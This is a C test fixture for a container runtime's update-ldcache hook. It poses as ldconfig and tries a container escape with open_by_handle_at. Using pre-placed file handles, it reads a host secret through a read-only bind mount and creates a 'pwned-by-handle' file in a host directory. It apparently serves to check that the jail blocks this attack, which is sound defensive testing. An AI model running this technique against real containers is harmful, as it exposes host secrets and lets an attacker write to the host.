/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A stand-in for ldconfig, built static by test_jail_attacks.py and given to the update-ldcache hook
 * as --ldconfig-path: it tries what CAP_DAC_READ_SEARCH allows, open_by_handle_at, which opens any
 * inode of a file system through any mount of it, whatever the mount shows. The test put two file
 * handles of host files outside the container into the rootfs (/handles/secret, /handles/dir, as
 * name_to_handle_at wrote them); through the container's mounts (MOUNT_RO, a read-only library bind
 * mount; MOUNT_RW, a read-write file bind mount like kubelet's /etc/hosts) it reads the secret and
 * creates a file in the host dir. What it got goes to /probe.out in its root:
 *   name_to_handle=ERRNO   its own name_to_handle_at of "/" (0: it worked)
 *   secret=ERRNO|CONTENT   reading the host file through the read-only mount
 *   create=ERRNO           creating "pwned-by-handle" in the host dir through the read-write mount
 * Exits 0, as ldconfig does.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#if !defined(MOUNT_RO) || !defined(MOUNT_RW)
#error "build with -DMOUNT_RO=\"/a/read-only/mount\" -DMOUNT_RW=\"/a/read-write/mount\""
#endif

/* a struct file_handle with room for the largest handle */
union handle {
	struct file_handle h;
	unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

static int load(const char *path, union handle *out)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, out->bytes, sizeof(out->bytes));

	if (fd >= 0)
		close(fd);
	return n >= (ssize_t)sizeof(struct file_handle) ? 0 : -1;
}

static int by_handle(const char *mount, const char *file, int flags)
{
	union handle h;
	int mfd = open(mount, O_RDONLY | O_CLOEXEC), fd;

	if (mfd < 0 || load(file, &h) < 0)
		return -EINVAL;
	fd = open_by_handle_at(mfd, &h.h, flags | O_CLOEXEC);
	fd = fd < 0 ? -errno : fd;
	close(mfd);
	return fd;
}

int main(void)
{
	FILE *f = fopen("/probe.out", "w");
	union handle own = {.h.handle_bytes = MAX_HANDLE_SZ};
	int mount_id, fd;
	char buf[256];

	if (!f)
		return 0;
	fprintf(f, "name_to_handle=%d\n", name_to_handle_at(AT_FDCWD, "/", &own.h, &mount_id, 0) < 0 ? errno : 0);
	fd = by_handle(MOUNT_RO, "/handles/secret", O_RDONLY);
	if (fd >= 0) {
		ssize_t n = read(fd, buf, sizeof(buf) - 1);

		buf[n > 0 ? n : 0] = '\0';
		fprintf(f, "secret=%s\n", buf);
		close(fd);
	} else
		fprintf(f, "secret=%d\n", -fd);
	fd = by_handle(MOUNT_RW, "/handles/dir", O_RDONLY | O_DIRECTORY);
	if (fd >= 0) {
		int made = openat(fd, "pwned-by-handle", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

		fprintf(f, "create=%d\n", made < 0 ? errno : 0);
		if (made >= 0)
			close(made);
		close(fd);
	} else
		fprintf(f, "create=%d\n", -fd);
	fclose(f);
	return 0;
}
